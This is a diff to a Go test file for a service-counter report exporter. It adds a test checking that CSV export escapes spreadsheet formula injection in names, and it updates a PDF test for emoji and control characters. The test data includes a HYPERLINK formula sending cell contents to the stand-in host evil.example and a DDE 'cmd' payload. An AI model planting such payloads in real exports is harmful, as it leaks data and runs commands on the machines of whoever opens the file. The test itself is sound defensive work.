@@ -249,6 +249,64 @@ func TestJSONShape(t *testing.T) {
 	}
 }
 
+// TestCSVFormulaInjection: names typed by admins that a spreadsheet would
+// run as formulas are written as text; the numbers stay numbers.
+func TestCSVFormulaInjection(t *testing.T) {
+	rep := computeHandBuilt(t)
+	hostile := map[string]string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
+		"+84 Quầy":               "'+84 Quầy",
+		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd":          "'@SUM(1+1)*cmd",
+		"\tTab":                  "'\tTab",
+		"\rCR":                   "'\rCR",
+		"Cán\x00 bộ":             "Cán bộ",
+	}
+	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "+84 Quầy", "-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd", "\tTab", "\rCR", "Cán\x00 bộ"}
+	rep.ByService[0].Name = names[0]
+	rep.ByCounter[0].Name = names[1]
+	rep.ByOfficer[0].Name = names[2]
+	rep.ByOfficer[1].Name = names[3]
+	rep.ByCounter[1].Name = names[4]
+	rep.ByService[1].Name = names[5]
+	rep.ByOfficer[2].Name = names[6]
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, rep); err != nil {
+		t.Fatal(err)
+	}
+	if bytes.ContainsRune(buf.Bytes(), 0) {
+		t.Error("a NUL reached the CSV")
+	}
+	lines, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := map[string]bool{}
+	for _, l := range lines[1:] {
+		for i, cell := range l {
+			if cell == "" {
+				continue
+			}
+			if i >= 4 { // a figure: a plain number
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("figure cell %q is not a number", cell)
+				}
+				continue
+			}
+			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("text cell %q starts a formula", cell)
+			}
+			found[cell] = true
+		}
+	}
+	for _, name := range names {
+		if want := hostile[name]; !found[want] {
+			t.Errorf("no cell %q for the name %q", want, name)
+		}
+	}
+}
+
 func TestNumberFormats(t *testing.T) {
 	tests := []struct{ got, want string }{
 		{fmtInt(0), "0"}, {fmtInt(999), "999"}, {fmtInt(1000), "1.000"}, {fmtInt(1234567), "1.234.567"},
@@ -266,12 +324,13 @@ func TestNumberFormats(t *testing.T) {
 
 // TestPDFOddText: what citizens type reaches the PDF, and gofpdf draws
 // only the Basic Multilingual Plane; an emoji must not break the report.
+// What the font lacks prints as "?", a control character not at all.
 func TestPDFOddText(t *testing.T) {
 	rep := computeHandBuilt(t)
 	rep.Satisfaction.Comments[0].Text = "Chờ lâu 😀 quá\x01 𝔸\tthật"
 	rep.ByOfficer[0].Name = "Cán bộ 😀"
 	text, _ := pdfText(t, rep)
-	for _, want := range []string{"Chờ lâu quá thật", "Cán bộ"} {
+	for _, want := range []string{"Chờ lâu ? quá A thật", "Cán bộ ?"} {
 		if !strings.Contains(squash(text), want) {
 			t.Errorf("PDF text lacks %q", want)
 		}
